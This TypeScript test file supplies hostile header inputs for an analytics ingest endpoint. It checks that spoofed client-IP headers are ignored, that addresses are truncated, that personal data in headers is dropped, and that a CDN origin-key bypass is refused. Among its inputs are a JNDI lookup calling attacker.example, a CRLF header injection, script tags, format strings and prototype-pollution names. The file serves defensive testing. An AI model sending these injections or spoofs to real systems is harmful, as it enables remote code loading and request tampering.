import { pageView } from './event-json.ts';
import { eachOutcome, type HostileCase, refused } from './hostile-case.ts';

const body = JSON.stringify(pageView(2, { ctx: { page_url: '/' } }));
const accepted = ['accepted'] as const;
const address = { '/privacy/source_ip_anonymized': '203.0.113.0' };

/** Headers that somebody hopes we believe; each request comes from 203.0.113.77. */
const spoofed = [
  'x-forwarded-for',
  'x-real-ip',
  'x-client-ip',
  'client-ip',
  'true-client-ip',
  'cf-connecting-ip',
  'fastly-client-ip',
  'x-cluster-client-ip',
  'x-original-forwarded-for',
  'x-forwarded',
  'forwarded-for',
  'forwarded',
  'via',
  'x-azure-clientip',
  'x-appengine-user-ip',
];
const spoofs = spoofed.flatMap((name) =>
  [
    '198.51.100.123',
    '127.0.0.1',
    '198.51.100.123, 10.0.0.1',
    'for=198.51.100.123',
    '::1',
    'unknown',
    '"><script>',
    '',
  ].map((value) =>
    eachOutcome(`${name}: ${value}`, { headers: { [name]: value }, body }, accepted, {
      stored: address,
      absent: ['198.51.100'],
    }),
  ),
);

/** Of a peer as the gateway sees it. */
const peers: Readonly<Record<string, string | null>> = {
  '203.0.113.77': '203.0.113.0',
  '0.0.0.0': '0.0.0.0',
  '255.255.255.255': '255.255.255.0',
  '::ffff:203.0.113.77': '::ffff:203.0.113.0',
  '::FFFF:203.0.113.77': '::ffff:203.0.113.0',
  '2001:db8:1:2::3': '2001:db8:1::',
  '2001:DB8:1:2:3:4:5:6': '2001:db8:1::',
  '::1': '::',
  '::': '::',
  '203.0.113': null,
  '203.0.113.256': null,
  '203.0.113.77.1': null,
  '0203.0.113.77': null,
  '203.0.113.77, 198.51.100.1': null,
  localhost: null,
  unknown: null,
  '': null,
  ['1'.repeat(10_000)]: null,
  ['__proto__']: null,
};
const addresses = Object.entries(peers).map(([sourceIp, truncated]) =>
  eachOutcome(
    `the peer is ${sourceIp.length > 50 ? `${sourceIp.length} digits` : `"${sourceIp}"`}`,
    { sourceIp, body },
    accepted,
    { stored: { '/privacy/source_ip_anonymized': truncated } },
  ),
);

/** Values that no header should have, in headers that ingest reads or copies. */
const oddValues: Readonly<Record<string, string>> = {
  'CR LF and a header': 'x\r\nset-cookie: a=b',
  'a lone LF': 'x\ny',
  'a lone CR': 'x\ry',
  'a NUL': 'x\u0000y',
  'other control characters': 'x\u0001\u001b[31m\u007fy',
  'Latin-1 letters': 'Z\u00fcrich',
  'an emoji': '🦊',
  'a lone surrogate': 'x\ud83dy',
  'right to left override': 'x\u202ey',
  HTML: '<script>alert(1)</script>',
  JSON: '{"a":1}',
  'a quote and a newline of JSON': '"\\n{"frame_id":"x"}',
  'a lookup': `\${jndi:ldap://attacker.example/x}`,
  'a format string': '%s%n',
  ['__proto__']: '__proto__',
  'sixteen kilobytes': 'x'.repeat(16 * 1024),
  'a megabyte': 'x'.repeat(1 << 20),
  nothing: '',
};
const odd = [
  'user-agent',
  'referer',
  'accept-language',
  'cookie',
  'x-request-id',
  'x-amzn-trace-id',
  'x-unknown',
  'host',
].flatMap((name) =>
  Object.entries(oddValues).map(([what, value]) =>
    eachOutcome(`${name} holds ${what}`, { headers: { [name]: value }, body }, accepted),
  ),
);

/** Names of headers that a look-up in a plain object would find. */
const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'x'.repeat(10_000), ''].map(
  (name) =>
    eachOutcome(
      `a header named ${name.length > 50 ? `${name.length} letters` : `"${name}"`}`,
      { headers: JSON.parse(`{${JSON.stringify(name)}:"x"}`) as Record<string, string>, body },
      accepted,
    ),
);

const many = [100, 1000, 10_000].map((count) =>
  eachOutcome(
    `${count} headers`,
    { headers: Object.fromEntries(Array.from({ length: count }, (_, n) => [`x-${n}`, String(n)])), body },
    accepted,
  ),
);

const secretsInHeaders = [
  eachOutcome(
    'an e-mail address in the user agent',
    { headers: { 'user-agent': 'Browser (zq7planted.person@leak.example)' }, body },
    accepted,
    { absent: ['zq7planted', 'leak.example'] },
  ),
  ...['cookie', 'authorization', 'referer', 'from', 'x-user-email'].map((name) =>
    eachOutcome(
      `an e-mail address in ${name}`,
      { headers: { [name]: 'zq7planted.person@leak.example' }, body },
      accepted,
      { absent: ['zq7planted', 'leak.example'] },
    ),
  ),
];

/** Without a CDN of ours nobody's word about a country counts. */
const countries = ['DE', 'de', 'XX', 'DEU', '', '__proto__', 'D\u0000'].map((country) =>
  eachOutcome(
    `cloudfront-viewer-country: ${JSON.stringify(country)}, but there is no CDN`,
    { headers: { 'cloudfront-viewer-country': country }, body },
    accepted,
    { stored: { '/geo': undefined } },
  ),
);

/** Behind CloudFront, whose own address is 192.0.2.200: X-Forwarded-For → the client's truncated address. */
const forwarded: Readonly<Record<string, string | null>> = {
  '203.0.113.77, 192.0.2.200': '203.0.113.0',
  '198.51.100.123, 203.0.113.77, 192.0.2.200': '203.0.113.0',
  '198.51.100.123,203.0.113.77,192.0.2.200': '203.0.113.0',
  '192.0.2.200, 203.0.113.77, 192.0.2.200': '203.0.113.0',
  '127.0.0.1, ::1, 203.0.113.77, 192.0.2.200': '203.0.113.0',
  [`${'198.51.100.123, '.repeat(1000)}203.0.113.77, 192.0.2.200`]: '203.0.113.0',
  '198.51.100.123, 2001:db8:1:2::3, 192.0.2.200': '2001:db8:1::',
  '203.0.113.77': '203.0.113.0',
  '198.51.100.123, unknown, 192.0.2.200': null,
  '198.51.100.123, 203.0.113.77:443, 192.0.2.200': null,
  '198.51.100.123, , 192.0.2.200': null,
  '192.0.2.200': null,
  '': null,
  ',': null,
};

const bypasses: Readonly<Record<string, (originKey: string) => string>> = {
  nothing: () => '',
  'another key': () => '0'.repeat(64),
  'the key in capitals': (originKey) => originKey.toUpperCase(),
  'the key cut off': (originKey) => originKey.slice(1),
  'the key and more': (originKey) => `${originKey}0`,
  'the key twice': (originKey) => `${originKey},${originKey}`,
  'the name of an object': () => '__proto__',
  'ten kilobytes': (originKey) => originKey.repeat(160),
};

/** For a bed behind CloudFront. */
export const behindCloudFront: readonly HostileCase[] = [
  ...Object.entries(bypasses).map(([what, toValue]) =>
    refused(
      `past the CDN, x-millrace-origin holds ${what}`,
      { headers: ({ originKey }) => ({ 'x-millrace-origin': toValue(originKey) }), body },
      403,
    ),
  ),
  ...Object.entries(forwarded).map(([hops, truncated]) =>
    eachOutcome(
      `x-forwarded-for: ${hops.length > 80 ? `${hops.length} characters` : `"${hops}"`}`,
      { sourceIp: '192.0.2.200', headers: { 'x-forwarded-for': hops }, body },
      accepted,
      { stored: { '/privacy/source_ip_anonymized': truncated }, absent: ['198.51.100'] },
    ),
  ),
  ...Object.entries({
    DE: 'DE',
    de: undefined,
    DEU: undefined,
    '': undefined,
    'D\u0000': undefined,
    '12': undefined,
  }).map(([country, kept]) =>
    eachOutcome(
      `cloudfront-viewer-country: ${JSON.stringify(country)}`,
      {
        sourceIp: '192.0.2.200',
        headers: { 'x-forwarded-for': '203.0.113.77, 192.0.2.200', 'cloudfront-viewer-country': country },
        body,
      },
      accepted,
      { stored: { '/geo': kept === undefined ? undefined : { country: kept } } },
    ),
  ),
];

/** What stands around a body: nothing of it is believed without reason, nothing breaks a line. */
export const headerFields: readonly HostileCase[] = [
  ...countries,
  ...spoofs,
  ...addresses,
  ...odd,
  ...names,
  ...many,
  ...secretsInHeaders,
];
